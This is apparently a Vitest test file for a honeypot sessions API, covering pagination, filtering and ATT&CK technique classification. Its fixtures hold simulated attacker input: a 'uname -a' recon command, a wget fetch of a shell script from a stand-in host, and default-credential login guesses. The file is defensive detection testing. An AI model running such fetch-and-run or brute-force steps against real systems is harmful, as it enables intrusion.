import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DecoySessionsService } from './decoy-sessions.service.js';
import {
  attack,
  bearer,
  createWorld,
  event,
  P,
  postEvents,
  sensorSecret,
  startDecoyHub,
  type DecoyHub,
} from './decoy.fixtures.js';

interface SessionItem {
  id: string;
  session: string;
  live: boolean;
  startedAt: string;
  srcIp: string;
  techniques: string[];
}

describe(DecoySessionsService.name, () => {
  let d: DecoyHub;
  let secret: string;

  beforeAll(async () => {
    d = await startDecoyHub('dsessions');
    secret = await sensorSecret(d, 's-sensor');
    await createWorld(d, 'pages', 's-sensor');
    // Seven finished sessions and one still open (no disconnect yet).
    for (let i = 0; i < 7; i++) {
      await postEvents(
        d,
        bearer(secret),
        's-sensor',
        attack('s-sensor', 'pages', `done-${i}`).map((e) => ({
          ...e,
          src: { ip: `192.0.2.${i + 1}`, port: 1000 + i },
        })),
      );
    }
    await postEvents(d, bearer(secret), 's-sensor', [
      event('s-sensor', 'pages', 'open-1', 590, { kind: 'connect' }),
      event('s-sensor', 'pages', 'open-1', 591, { kind: 'command', input: 'uname -a' }),
    ]);
  });
  afterAll(async () => d.hub.dispose());

  const list = async (query: string) => {
    const response = await d.hub.app.inject({ url: `${P}/decoy/sessions${query}`, headers: d.analystA });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<{ items: SessionItem[]; nextCursor: string | null }>();
  };

  it('pages newest first with a cursor, each session once', async () => {
    const seen: SessionItem[] = [];
    let cursor: string | null = null;
    do {
      const page: { items: SessionItem[]; nextCursor: string | null } = await list(
        `?world=pages&limit=3${cursor ? `&cursor=${cursor}` : ''}`,
      );
      expect(page.items.length).toBeLessThanOrEqual(3);
      seen.push(...page.items);
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen).toHaveLength(8);
    expect(new Set(seen.map((s) => s.id)).size).toBe(8);
    const starts = seen.map((s) => s.startedAt);
    expect([...starts].sort().reverse()).toEqual(starts);
    expect(seen[0]!.session).toBe('open-1');
  });

  it('filters by source, liveness and world', async () => {
    expect((await list('?src=192.0.2.3')).items.map((s) => s.session)).toEqual(['done-2']);
    expect((await list('?world=pages&live=true')).items.map((s) => s.session)).toEqual(['open-1']);
    expect((await list('?world=pages&live=false')).items).toHaveLength(7);
    expect((await list('?world=elsewhere')).items).toEqual([]);
    const bad = await d.hub.app.inject({ url: `${P}/decoy/sessions?cursor=nonsense`, headers: d.analystA });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields[0].path).toBe('cursor');
  });

  it("shows a session's events in order, with the classifier's hits once the analysis has run", async () => {
    const [item] = (await list('?src=192.0.2.1')).items;
    const detail = async () =>
      (await d.hub.app.inject({ url: `${P}/decoy/sessions/${item!.id}`, headers: d.analystA })).json<{
        events: { kind: string; payload: { input?: string }; hits: { techniques: string[] }[] }[];
      }>();
    await d.hub.services.decoyAnalysis.drain();
    const events = (await detail()).events;
    expect(events.map((e) => e.kind)).toEqual([
      'connect',
      'auth',
      'auth',
      'auth',
      'command',
      'command',
      'command',
      'download',
      'disconnect',
    ]);
    const uname = events.find((e) => e.payload.input === 'uname -a')!;
    expect(uname.hits.flatMap((h) => h.techniques)).toContain('T1082');
    expect(events[0]!.hits).toEqual([]);
  });

  it('filters by the technique the classifier found, a parent id finding its sub-techniques, before the page is cut', async () => {
    const hunting = await sensorSecret(d, 'h-sensor');
    await createWorld(d, 'hunting', 'h-sensor');
    const e = (session: string, at: number, body: Parameters<typeof event>[4], ip: string) => ({
      ...event('h-sensor', 'hunting', session, at, body),
      src: { ip, port: 40_000 },
    });
    const sessions = [
      ['fetch-old', 100, '198.51.100.1'],
      ['fetch-new', 200, '198.51.100.2'],
    ].flatMap(([session, at, ip]) => [
      e(String(session), Number(at), { kind: 'connect' }, String(ip)),
      e(String(session), Number(at) + 1, { kind: 'command', input: 'wget http://198.51.100.4/x.sh' }, String(ip)),
      e(String(session), Number(at) + 2, { kind: 'download', url: 'http://198.51.100.4/x.sh' }, String(ip)),
      e(String(session), Number(at) + 3, { kind: 'disconnect', duration: 3 }, String(ip)),
    ]);
    // The newest sessions reach neither T1105 nor T1082: a filter applied after the page is cut would show nothing.
    const guesser = '198.51.100.3';
    sessions.push(
      e('guess', 300, { kind: 'connect' }, guesser),
      e('guess', 301, { kind: 'auth', username: 'root', password: 'admin', success: false }, guesser),
      e('guess', 302, { kind: 'disconnect', duration: 2 }, guesser),
      e('guess-2', 400, { kind: 'connect' }, guesser),
      e('guess-2', 401, { kind: 'auth', username: 'root', password: 'toor', success: false }, guesser),
      e('guess-2', 402, { kind: 'disconnect', duration: 2 }, guesser),
    );
    expect((await postEvents(d, bearer(hunting), 'h-sensor', sessions)).statusCode).toBe(200);
    await d.hub.services.decoyAnalysis.drain();
    const names = async (query: string) => (await list(`?world=hunting&${query}`)).items.map((s) => s.session);

    expect(await names('technique=T1105')).toEqual(['fetch-new', 'fetch-old']);
    expect(await names('technique=T1110')).toEqual(['guess-2', 'guess']);
    expect(await names('technique=T1110.001')).toEqual(['guess-2', 'guess']);
    expect(await names('technique=T1110.003')).toEqual([]);
    expect(await names('technique=T1082')).toEqual([]);
    expect(await names(`technique=T1105&src=198.51.100.1`)).toEqual(['fetch-old']);
    expect(await names(`technique=T1110&src=198.51.100.1`)).toEqual([]);
    expect((await list('?world=hunting&technique=T1110')).items.every((s) => s.techniques.includes('T1110.001'))).toBe(
      true,
    );

    const first = await list('?world=hunting&technique=T1105&limit=1');
    expect(first.items.map((s) => s.session)).toEqual(['fetch-new']);
    const second = await list(`?world=hunting&technique=T1105&limit=1&cursor=${first.nextCursor}`);
    expect(second.items.map((s) => s.session)).toEqual(['fetch-old']);
    expect(second.nextCursor).toBeNull();
  });

  it('refuses a technique that is not an ATT&CK id, saying what it expects', async () => {
    for (const technique of ['T11', 't1110', 'T1110.%', 'T1110.1', 'T1110%25']) {
      const response = await d.hub.app.inject({
        url: `${P}/decoy/sessions?technique=${technique}`,
        headers: d.analystA,
      });
      expect(response.statusCode, technique).toBe(400);
      expect(response.json().error).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: [{ path: 'querystring.technique', message: 'an ATT&CK technique id such as T1110 or T1110.001' }],
      });
    }
  });
});
